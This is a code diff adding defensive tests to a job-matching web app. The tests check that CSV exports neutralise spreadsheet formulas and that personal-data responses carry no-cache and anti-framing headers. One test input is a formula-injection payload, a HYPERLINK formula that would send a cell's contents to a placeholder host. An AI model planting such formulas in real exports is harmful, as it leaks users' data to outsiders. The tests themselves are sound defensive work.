@@ -88,3 +88,18 @@ def test_storage_outage_is_503_with_retry_after_and_one_log_line(caplog, tokens)
         assert response.headers["Retry-After"] == "30" and response.get_json()["code"] == "unavailable"
     storage_lines = [r for r in caplog.records if "storage" in r.getMessage()]
     assert len(storage_lines) <= 1 and not any(r.exc_info for r in caplog.records)
+
+
+def test_csv_cells_cannot_start_a_formula():
+    from jobmatch.http import csv_download, spreadsheet_safe
+
+    assert spreadsheet_safe('=HYPERLINK("http://x/?"&B2,"Xem")') == '\'=HYPERLINK("http://x/?"&B2,"Xem")'
+    assert spreadsheet_safe("+84912345678") == "'+84912345678" and spreadsheet_safe(7) == 7
+    body = csv_download([{"title": "@SUM(A1)", "n": 3}], ["title", "n"], "x.csv").get_data(as_text=True)
+    assert body.splitlines()[1] == "'@SUM(A1),3"
+
+
+def test_responses_with_personal_data_are_not_cached_or_framed(client, tokens):
+    response = client.get("/api/v1/me", headers=auth(tokens["counsellor"]))
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["X-Frame-Options"] == "DENY"
